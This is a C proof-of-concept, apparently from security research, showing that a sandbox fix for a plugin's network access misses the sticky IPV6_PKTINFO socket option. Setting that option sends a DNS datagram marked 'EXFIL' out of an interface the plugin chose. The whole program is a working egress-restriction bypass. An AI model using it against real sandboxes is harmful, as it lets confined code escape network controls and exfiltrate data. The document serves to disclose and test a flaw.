#define _GNU_SOURCE
/* network.http: the interface a datagram leaves by, chosen by the plugin.
 * The fix refuses SO_BINDTODEVICE, SO_BINDTOIFINDEX, IP(V6)_UNICAST_IF
 * ("an interface binding picks another network for the same address") but
 * not the *sticky* IPV6_PKTINFO (level 41, option 50), whose ipi6_ifindex
 * udpv6_sendmsg takes as the output interface when the socket has no bound
 * device. The supervisor's sendto of the checked DNS datagram to the allowed
 * resolver then leaves by IFNAME instead of the route's interface.
 * usage: pktinfo RESOLVER_IP6 IFNAME */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	if (argc < 3) return 2;
	struct sockaddr_in6 r = {.sin6_family = AF_INET6, .sin6_port = htons(53)};
	inet_pton(AF_INET6, argv[1], &r.sin6_addr);
	int s = socket(AF_INET6, SOCK_DGRAM, 0);
	ssize_t n = sendto(s, "EXFIL-plain-route", 17, 0, (void *)&r, sizeof(r));
	printf("plain sendto [%s]:53: %s\n", argv[1], n < 0 ? strerror(errno) : "sent");
	struct in6_pktinfo pi = {.ipi6_ifindex = if_nametoindex(argv[2])};
	if (setsockopt(s, IPPROTO_IPV6, IPV6_PKTINFO, &pi, sizeof(pi)) < 0) { perror("IPV6_PKTINFO"); return 1; }
	n = sendto(s, "EXFIL-via-PKTINFO", 17, 0, (void *)&r, sizeof(r));
	printf("sticky IPV6_PKTINFO ifindex %u (%s), sendto [%s]:53: %s\n", pi.ipi6_ifindex, argv[2], argv[1], n < 0 ? strerror(errno) : "sent");
	int b = socket(AF_INET6, SOCK_DGRAM, 0);
	n = setsockopt(b, SOL_SOCKET, SO_BINDTODEVICE, argv[2], (socklen_t)strlen(argv[2]));
	printf("reference: SO_BINDTODEVICE %s: %s\n", argv[2], n < 0 ? strerror(errno) : "accepted");
	n = setsockopt(b, IPPROTO_IPV6, IPV6_UNICAST_IF, &(int){htonl(pi.ipi6_ifindex)}, 4);
	printf("reference: IPV6_UNICAST_IF %s: %s\n", argv[2], n < 0 ? strerror(errno) : "accepted");
	return 0;
}
